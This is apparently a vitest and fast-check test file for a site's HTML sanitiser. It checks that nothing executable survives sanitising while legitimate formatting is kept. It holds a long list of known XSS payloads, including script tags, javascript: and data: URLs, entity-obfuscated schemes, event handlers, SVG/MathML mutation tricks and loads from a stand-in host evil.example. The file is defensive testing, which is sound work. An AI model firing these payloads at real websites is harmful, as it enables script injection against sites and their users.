import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize-html.ts';
import { IMAGE_SIZES, responsiveImage } from '../../shared/images.ts';

/** Known XSS vectors (OWASP filter-evasion cheat sheet, PortSwigger XSS cheat sheet, html5sec.org). */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("x")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="java&#115;cript:alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="x" onclick="alert(1)">click</a>',
  '<a href="x" onmouseover=alert(1)>hover</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  '<div id="x" onmouseover="alert(1)">x</div>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://example.com" target="_blank">tabnabbing</a>',
  '<code class="language-js x-evil" onclick="alert(1)">code</code>',
  '<pre class="hero"><code>layout-breaking class</code></pre>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<img src="https://example.com/x.png" srcset="javascript:alert(1)">',
  '<a href="tel:+61280050142" onfocus="alert(1)" autofocus>call</a>',
];

const ALLOWED: Record<string, readonly string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height', 'loading', 'srcset', 'sizes'],
  abbr: ['title'],
  time: ['datetime'],
  ol: ['start', 'reversed'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
  col: ['span'],
  colgroup: ['span'],
  code: ['class'],
  pre: ['class'],
};
const TAGS = new Set(
  'h2 h3 h4 h5 h6 p br hr div span strong b em i u s del ins mark small sub sup abbr time blockquote q cite code pre kbd samp var ul ol li dl dt dd a img figure figcaption table caption colgroup col thead tbody tfoot tr th td'.split(' '),
);

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');
}

/**
 * Reads the sanitiser's own serialised output: every `<` must open or close an allowed tag with allowed,
 * double-quoted attributes; URLs must be http(s), mailto, tel or site-relative. Returns what is wrong.
 */
function problems(html: string): string[] {
  const found: string[] = [];
  const tag = /<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
  const rest = html.replace(tag, (_whole, name: string, attrs: string) => {
    if (!TAGS.has(name)) found.push(`tag <${name}>`);
    for (const [, attr, value = ''] of attrs.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!ALLOWED[name]?.includes(attr!)) found.push(`attribute ${name}[${attr}]`);
      const url = decodeEntities(value).replace(/[\s\p{Cc}]/gu, '').toLowerCase();
      // A URL's scheme is what precedes the first colon when it is a valid scheme name; otherwise it is relative.
      const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1];
      const allowedScheme = scheme === undefined || ['http', 'https', 'mailto', 'tel'].includes(scheme);
      if ((attr === 'href' || attr === 'src') && (!allowedScheme || url.startsWith('//'))) {
        found.push(`url ${name}[${attr}]=${value}`);
      }
      if (attr === 'class' && !/^(language-[a-z0-9-]+\s*)+$/.test(value)) found.push(`class ${value}`);
      // Only as the site writes it for an uploaded image's own src.
      const src = /\ssrc="([^"]*)"/.exec(attrs)?.[1] ?? '';
      if (attr === 'srcset' && value !== responsiveImage(decodeEntities(src), 'post').srcSet) found.push(`srcset ${value}`);
      if (attr === 'sizes' && value !== IMAGE_SIZES.post) found.push(`sizes ${value}`);
    }
    return '';
  });
  if (rest.includes('<')) found.push(`stray markup: ${rest}`);
  return found;
}

describe('sanitiser against XSS', () => {
  it('nothing executable survives generated markup: the vectors, hostile tags, attributes and URLs, mixed', () => {
    const attribute = fc.tuple(
      fc.constantFrom('href', 'src', 'onerror', 'onclick', 'style', 'class', 'srcset', 'formaction', 'xlink:href', 'title', 'alt'),
      fc.constantFrom(
        'javascript:alert(1)',
        ' JaVa\tScRiPt:alert(1)',
        '&#106;avascript:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'vbscript:msgbox(1)',
        '//evil.example/x.js',
        'https://ok.example/a.png',
        '/images/ok.svg',
        '/media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/960.png',
        '/media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/960.png 1w, https://evil.example/x.png 2w',
        'x" onerror="alert(1)',
        'language-js',
      ),
    );
    const element = fc
      .tuple(
        fc.constantFrom('a', 'img', 'p', 'iframe', 'svg', 'math', 'form', 'object', 'embed', 'style', 'script', 'div', 'code', 'table'),
        fc.array(attribute, { maxLength: 3 }),
        fc.string({ maxLength: 12 }),
      )
      .map(([tag, attrs, text]) => `<${tag} ${attrs.map(([name, value]) => `${name}="${value}"`).join(' ')}>${text}</${tag}>`);
    const markup = fc.array(fc.oneof(fc.constantFrom(...XSS_VECTORS), element, fc.string({ maxLength: 20 })), { maxLength: 6 });
    fc.assert(
      fc.property(markup, (parts) => {
        expect(problems(sanitizeHtml(parts.join('')))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it.each(XSS_VECTORS)('nothing executable survives %s', (vector) => {
    const clean = sanitizeHtml(vector);
    expect(problems(clean)).toEqual([]);
    // Sanitising is stable: a second pass (on render) changes nothing.
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it('script and style bodies are dropped, not shown as text', () => {
    expect(sanitizeHtml('<p>a</p><script>alert(1)</script><style>p{}</style>')).toBe('<p>a</p>');
  });
});

/** Formatting an author expects to keep, each with the exact output. */
const GOOD_FORMATTING: Array<[string, string]> = [
  ['<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4>', '<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4>'],
  ['<h1>Top</h1>', '<h2>Top</h2>'],
  ['<p>One <strong>bold</strong>, <em>italic</em>, <u>under</u>, <s>old</s> and <mark>marked</mark>.</p>', '<p>One <strong>bold</strong>, <em>italic</em>, <u>under</u>, <s>old</s> and <mark>marked</mark>.</p>'],
  ['<p>Line<br />break</p><hr />', '<p>Line<br />break</p><hr />'],
  ['<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>'],
  ['<ol start="3"><li>three</li></ol>', '<ol start="3"><li>three</li></ol>'],
  ['<dl><dt>MFA</dt><dd>Multi-factor authentication</dd></dl>', '<dl><dt>MFA</dt><dd>Multi-factor authentication</dd></dl>'],
  ['<a href="/services?service=web-hosting">hosting</a>', '<a href="/services?service=web-hosting">hosting</a>'],
  ['<a href="#backups">jump</a>', '<a href="#backups">jump</a>'],
  ['<a href="https://www.cyber.gov.au/" title="ACSC">ACSC</a>', '<a href="https://www.cyber.gov.au/" title="ACSC" rel="noopener noreferrer">ACSC</a>'],
  ['<a href="mailto:hello@northbridge-it.com.au">mail</a>', '<a href="mailto:hello@northbridge-it.com.au">mail</a>'],
  ['<a href="tel:+61280050142">call</a>', '<a href="tel:+61280050142">call</a>'],
  ['<img src="/images/blog/x.svg" alt="Diagram" width="1200" height="630" />', '<img src="/images/blog/x.svg" alt="Diagram" width="1200" height="630" loading="lazy" />'],
  [
    '<img src="/media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/1600.png" alt="Rack" width="1600" height="900" srcset="https://evil.example/x.png 1w" sizes="1px" />',
    '<img src="/media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/1600.png" alt="Rack" width="1600" height="900" srcset="/media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/480.webp 480w, /media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/960.webp 960w, /media/0b0c1d2e-3f40-4152-8364-758697a8b9c0/1600.webp 1600w" sizes="(min-width: 46rem) 44rem, calc(100vw - 2rem)" loading="lazy" />',
  ],
  ['<img src="https://cdn.example.com/a.png" srcset="https://cdn.example.com/b.png 2x" alt="A" />', '<img src="https://cdn.example.com/a.png" alt="A" loading="lazy" />'],
  ['<figure><img src="https://cdn.example.com/a.png" alt="A" /><figcaption>Caption</figcaption></figure>', '<figure><img src="https://cdn.example.com/a.png" alt="A" loading="lazy" /><figcaption>Caption</figcaption></figure>'],
  ['<pre><code class="language-bash">ping -c 4 10.0.0.1 &amp;&amp; echo ok</code></pre>', '<pre><code class="language-bash">ping -c 4 10.0.0.1 &amp;&amp; echo ok</code></pre>'],
  ['<p>Run <code>ipconfig /all</code> then <kbd>Enter</kbd>.</p>', '<p>Run <code>ipconfig /all</code> then <kbd>Enter</kbd>.</p>'],
  ['<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>', '<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>'],
  [
    '<table><caption>Plans</caption><thead><tr><th scope="col">Plan</th><th scope="col">Price</th></tr></thead><tbody><tr><td>VPS</td><td colspan="2">$40</td></tr></tbody></table>',
    '<table><caption>Plans</caption><thead><tr><th scope="col">Plan</th><th scope="col">Price</th></tr></thead><tbody><tr><td>VPS</td><td colspan="2">$40</td></tr></tbody></table>',
  ],
  ['<blockquote><p>Zero trust is a direction.</p><cite>Priya</cite></blockquote>', '<blockquote><p>Zero trust is a direction.</p><cite>Priya</cite></blockquote>'],
  ['<p><abbr title="Multi-factor authentication">MFA</abbr> since <time datetime="2026-03-10">March</time></p>', '<p><abbr title="Multi-factor authentication">MFA</abbr> since <time datetime="2026-03-10">March</time></p>'],
  ['<p>H<sub>2</sub>O and x<sup>2</sup>, &lt;3 &amp; “quotes” 🚀</p>', '<p>H<sub>2</sub>O and x<sup>2</sup>, &lt;3 &amp; “quotes” 🚀</p>'],
];

describe('sanitiser keeps good formatting', () => {
  it.each(GOOD_FORMATTING)('keeps %s', (input, expected) => {
    expect(sanitizeHtml(input)).toBe(expected);
    expect(sanitizeHtml(expected)).toBe(expected);
  });
});
